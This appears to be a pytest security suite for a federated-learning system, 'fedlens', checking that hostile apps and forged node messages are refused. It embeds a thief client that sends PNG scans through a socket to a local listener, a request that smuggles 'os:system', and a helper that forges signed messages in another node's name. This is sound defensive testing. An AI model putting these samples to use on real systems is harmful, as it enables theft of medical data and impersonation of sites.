"""Real processes, and people who mean harm: `fedlens serve`, two `fedlens join`, and a thief who
knows everything but the keys. Run by CI before everything else (`pytest -m trust`).
"""

from __future__ import annotations

import json
import re
import signal
import socket
import subprocess
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from deployment import BIN
from hospitals import PATIENCE, STUDY, Federation

pytest.importorskip("flwr")
import httpx
from flwr.app import ConfigRecord, Metadata, RecordDict
from flwr.app.message import remove_content_from_message
from flwr.app.message.message import make_message
from flwr.common.serde import message_to_proto
from flwr.proto.fleet_pb2 import PushMessagesRequest
from flwr.proto.node_pb2 import Node
from flwr.supercore.date import now
from flwr.supercore.inflatable.inflatable_object import get_object_tree
from flwr.supercore.interceptors.http.runtime_version import RuntimeVersionHttpInterceptor
from flwr.supernode.fleet_http_client import FleetHttpClient
from flwr.supernode.node_auth_http_interceptor import NodeAuthHttpInterceptor

from fedlens.engines.flower import engine as flower
from fedlens.engines.flower.site import PIECE_BYTES
from fedlens.runs.folder import read_records
from fedlens.sites import network
from fedlens.trust.signing import read_signing_key

pytestmark = [pytest.mark.trust, pytest.mark.timeout(600)]


@pytest.fixture(scope="module")
def here(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Federation]:
    federation = Federation(tmp_path_factory.mktemp("trust"))
    try:
        federation.serve()
        for site in (0, 1):
            federation.join(site)
        for site in (0, 1):
            federation.wait_until_joined(site)
        yield federation
    finally:
        federation.close()


THIEF_CLIENT = """
import pathlib, socket
from flwr.app import ConfigRecord, Message, RecordDict
from flwr.clientapp import ClientApp

pathlib.Path({marker!r}).write_text("imported")
app = ClientApp()

def rob(message, context):
    pathlib.Path({marker!r}).write_text("called")
    with socket.create_connection(("127.0.0.1", {port})) as line:
        for picture in pathlib.Path({data!r}).rglob("*.png"):
            line.sendall(picture.read_bytes())
    loot = ConfigRecord({{"loot": [str(p) for p in pathlib.Path({data!r}).rglob("*.png")]}})
    return Message(RecordDict({{"fedlens": loot}}), reply_to=message)

app.query()(rob)
app.train()(rob)
app.evaluate()(rob)
"""
THIEF_SERVER = """
import json, pathlib, time
from flwr.app import ConfigRecord, Message, RecordDict
from flwr.serverapp import ServerApp

app = ServerApp()
REQUEST = {{"version": {version!r}, "recipe": "", "text": "", "job": "j", "heard": -1,
    "forgive": True, "site": "os:system"}}

@app.main()
def main(grid, context):
    heard = []
    for kind in ("query", "train", "evaluate"):
        for fields in ({{"loot": "please"}}, REQUEST):
            for node in grid.get_node_ids():
                content = RecordDict({{"fedlens": ConfigRecord(fields)}})
                pushed = grid.push_messages([Message(content, node, kind)])
                until = time.time() + 60
                while time.time() < until:
                    replies = list(grid.pull_messages(pushed))
                    if replies:
                        heard += [dict(r.content.get("fedlens", {{}})) if r.has_content()
                                  else {{"error": r.error.code}} for r in replies]
                        break
                    time.sleep(0.1)
    pathlib.Path({out!r}).write_text(json.dumps(heard, default=str))
"""
THIEF_PROJECT = """
[project]
name = "thief"
version = "1.0.0"
description = "x"
license = "Apache-2.0"
dependencies = []
[tool.flwr.app]
publisher = "mallory"
[tool.flwr.app.components]
serverapp = "server:app"
clientapp = "client:app"
[tool.flwr.app.config]
"""


def test_a_thiefs_app_runs_at_no_site(here: Federation) -> None:
    """Mallory holds the CA file and reaches the SuperLink itself: he is on the server's machine, or
    is its operator. His app would read pictures, send them through a socket, leave a marker, and
    ask for a function by its name. Nothing of it runs; each site says in its log who asked; what he
    hears is a reason, and not one name of a file."""
    import fedlens

    app, marker, out = (here.folder / n for n in ("thief", "marker", "loot.json"))
    app.mkdir()
    with socket.create_server(("127.0.0.1", 0)) as fence:
        visits: list[Any] = []
        threading.Thread(target=lambda: visits.append(fence.accept()), daemon=True).start()
        facts = {
            "marker": str(marker),
            "port": fence.getsockname()[1],
            "data": str(here.folder),
            "out": str(out),
            "version": fedlens.__version__,
        }
        (app / "client.py").write_text(THIEF_CLIENT.format(**facts))
        (app / "server.py").write_text(THIEF_SERVER.format(**facts))
        (app / "pyproject.toml").write_text(THIEF_PROJECT)
        here.submit(app, "run-thief")
        here.wait_for(out.exists, PATIENCE, "the thief's return")
        assert not marker.exists() and not visits
    heard = json.loads(out.read_text())
    assert len(heard) == 12  # two sites, three kinds, two contents
    assert {h["lost"] for h in heard} <= {"stranger", "recipe"}
    assert "Mustermann" not in out.read_text() and "scans" not in out.read_text()
    for site in (0, 1):
        said = here.log(f"site-{site}")
        assert "mallory/thief 1.0.0, bundle " in said and "this site could not answer run" in said


def test_our_own_app_with_one_byte_changed_is_not_run_either(here: Federation) -> None:
    """The same run twice. The second time one byte of the bundle's client half is another:
    executed anywhere, it would find no module of that name. Both end alike, with the same bits, and
    the sites name both bundles."""
    models = []
    for name in ("as-it-is", "changed"):
        app = here.folder / f"app-{name}"
        out = here.folder / f"run-{name}"
        facts: dict[str, Any] = {
            "name": "study",
            "text": STUDY,
            "out": str(out),
            "resume": False,
            "fresh": False,
            "wait": 60.0,
            "least": 2,
            "forgive": False,
            "bindings": json.dumps({k: v.decode() for k, v in here.bindings().items()}),
        }
        flower.write_app(
            app, "fedlens.sites.server:run_server", "fedlens.sites.site:make_site", facts
        )
        if name == "changed":
            ours = (app / "client.py").read_text()
            theirs = ours.replace("sites.site", "sites.sitf")
            assert sum(a != b for a, b in zip(ours, theirs, strict=True)) == 1
            (app / "client.py").write_text(theirs)
        here.submit(app, f"log-{name}")
        here.wait_for((out / "summary.json").exists, PATIENCE, f"the end of {name}")
        lines = (out / "metrics.jsonl").read_text().splitlines()
        assert json.loads(lines[0])["heard"] == 2
        models.append((out / "model.safetensors").read_bytes())
    assert models[0] == models[1]
    said = here.log("site-0")
    assert len(set(re.findall(r"fedlens/fedlens-job \S+, bundle (\w+)\) asks", said))) == 2


def test_the_operators_apis_answer_nobody_outside(here: Federation) -> None:
    """At the address the sites use. With the CA file alone (every site has it): no answer at all.
    With a site's own key and certificate: 404. `flwr run` with the CA file: no run."""
    url = f"https://127.0.0.1:{here.port}"
    paths = ("/v1/control/list-runs", "/v1/control/start-run", "/v1/runtime/acquire-task")
    with httpx.Client(verify=network.tls_context(here.keys / "ca.crt")) as outsider:
        for path in paths:
            with pytest.raises(httpx.TransportError):
                outsider.post(url + path, content=b"")
    mine = here.keys / "site-0"
    with httpx.Client(
        verify=network.site_tls(here.keys / "ca.crt", Path(f"{mine}.crt"), mine)
    ) as s:
        for path in paths:
            assert s.post(url + path, content=b"").status_code == 404
    with (here.home / "config.toml").open("a") as config:
        config.write(
            f'\n[superlink.front]\naddress = "127.0.0.1:{here.port}"\nroot-certificates ='
            f' "{here.keys / "ca.crt"}"\n'
        )
    app = here.folder / "outside"
    flower.write_app(app, "toy_server:main", "toy_app:make_site", {})
    done = subprocess.run(
        [str(BIN / "flwr"), "run", str(app), "front"],
        env=here.env,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert done.returncode != 0 and "run-id" not in done.stdout


def test_a_run_of_the_server_and_what_it_says_when_it_fails(here: Federation) -> None:
    """`fedlens run` in the server's folder ends well; the same with another recipe hears nobody, in
    one message that names the key that differs and both sites, without a traceback, and its exit
    code is not 0."""
    code, said = here.run("good")
    assert code == 0, said
    assert (here.folder / "good" / "model.safetensors").is_file()
    (here.folder / "other.toml").write_text(STUDY.replace('"FedAvg"', '"FedAvg"\nlr = 0.5'))
    code, said = here.run("bad", "--wait", "20", recipe="other.toml")
    assert code == 1, said
    assert "Traceback" not in said
    for site in (0, 1):
        assert (
            f"the site of client {site} was not let in: agreed to another recipe; these keys"
            " differ: algorithm.FedAvg.lr" in said
        )
    assert "0 of 2 sites joined within 20 s" in said


def test_a_site_that_was_killed_comes_back_at_once(here: Federation) -> None:
    """Killed, not asked to end: the SuperLink still counts it as online, and it is back within
    seconds all the same, under the same number; a second one with its folder is refused."""
    here.stop("site-1", signal.SIGKILL)
    before = here.log("site-1").count("joined 127.0.0.1")
    here.join(1)
    here.wait_until_joined(1, before + 1)
    program, *rest = here.join_command(1)
    second = subprocess.run(
        [str(BIN / program), *rest], env=here.env, capture_output=True, text=True, timeout=120
    )
    assert second.returncode == 2 and "is running with" in second.stderr
    code, said = here.run("again")
    assert code == 0, said


def test_a_reply_of_400_megabytes_is_not_put_together(here: Federation) -> None:
    """Site 1, with its real key and through the real front, sends 400 MB where 0.3 MB are expected.
    The server fetches what a reply can be and one piece more, names the site and goes on."""
    here.stop("site-1")
    home = here.folder / "hospital-1"
    try:
        node = {"recipe": str(home / "study.toml"), "data": str(home / "scans")}
        here.site(1, "huge_site", **node, key=str(here.keys / "site-1"))
        code, said = here.run("huge")
        assert code == 0, said
        (line,) = read_records(here.folder / "huge" / "metrics.jsonl")
        assert (line["asked"], line["heard"], line["refused"]) == (2, 1, 1)
        (lost,) = line["lost"]
        assert lost["client"] == 1 and "MB, the most that it could be" in lost["reason"]
        most = float(re.findall(r"larger than ([\d.]+) MB", lost["reason"])[0]) * 1e6
        assert line["bytes_up"] < 2 * most + PIECE_BYTES + 1e5 < 10e6
    finally:
        here.stop("site-1")
        joined = here.log("site-1").count("joined 127.0.0.1")
        here.join(1)
        here.wait_until_joined(1, joined + 1)


def test_a_site_cannot_speak_for_another_or_for_the_server(here: Federation) -> None:
    """Site 1 knows the node id of site 0. With its own key it announces a message to that node in
    the server's name, and a reply in that node's name. The SuperLink itself would take the first
    (asked on the server's own machine, it wants the message's objects); the front refuses both."""
    app, out = here.folder / "lookout", here.folder / "lookout.json"
    app.mkdir()
    (app / "client.py").write_text("from flwr.clientapp import ClientApp\napp = ClientApp()\n")
    (app / "server.py").write_text(LOOKOUT.format(out=str(out), last=str(here.folder / "ended")))
    (app / "pyproject.toml").write_text(THIEF_PROJECT.replace("thief", "lookout"))
    here.submit(app, "run-lookout")
    here.wait_for(out.exists, PATIENCE, "the node ids")
    seen = json.loads(out.read_text())
    keys_of = {bytes.fromhex(key): node for node, key in seen["nodes"]}
    mine, other = (keys_of[here.bindings()[k]] for k in (1, 0))
    secret = read_signing_key(here.keys / "site-1")
    sign = [
        RuntimeVersionHttpInterceptor(component_name="SuperNode"),
        NodeAuthHttpInterceptor(secret, secret.public_key()),
    ]
    front = network.site_tls(here.keys / "ca.crt", here.keys / "site-1.crt", here.keys / "site-1")
    behind = network.tls_context(here.keys / "ca.crt")
    order = forged_push(seen["run"], mine, src_node_id=1, dst_node_id=other)
    reply = forged_push(seen["run"], mine, src_node_id=other, dst_node_id=1, reply_to="a" * 64)
    try:
        with FleetHttpClient(
            f"https://127.0.0.1:{here.inner}", interceptors=sign, verify=behind
        ) as inside:
            assert inside.PushMessages(order).objects_to_push
        with FleetHttpClient(
            f"https://127.0.0.1:{here.port}", interceptors=sign, verify=front
        ) as outside:
            for forged in (order, reply):
                with pytest.raises(httpx.HTTPStatusError, match="403"):
                    outside.PushMessages(forged)
        assert "refused the site of client 1: a message under the name of" in here.log("server")
    finally:
        (here.folder / "ended").touch()
    shown = here.running["run-lookout"]
    here.wait_for(lambda: shown.poll() is not None, PATIENCE, "the end of the lookout")


LOOKOUT = """
import json, os, pathlib, time
from flwr.serverapp import ServerApp

app = ServerApp()

@app.main()
def main(grid, context):
    nodes = [[n.node_id, n.public_key.hex()] for n in grid.get_nodes()]
    seen = {{"run": context.run_id, "nodes": nodes}}
    pathlib.Path({out!r} + ".part").write_text(json.dumps(seen))
    os.rename({out!r} + ".part", {out!r})
    until = time.time() + 120
    while time.time() < until and not pathlib.Path({last!r}).exists():
        time.sleep(0.1)
"""


def forged_push(run: int, node: int, reply_to: str = "", **names: int) -> PushMessagesRequest:
    content = RecordDict({"fedlens": ConfigRecord({"loot": "please"})})
    metadata = Metadata(
        run_id=run, message_id="", reply_to_message_id=reply_to, group_id="",
        created_at=now().timestamp(), ttl=60.0, message_type="train", **names,
    )  # fmt: skip
    message = make_message(metadata=metadata, content=content)
    message.metadata.__dict__["_message_id"] = message.object_id
    return PushMessagesRequest(
        node=Node(node_id=node),
        messages_list=[message_to_proto(remove_content_from_message(message))],
        message_object_trees=[get_object_tree(message)],
    )
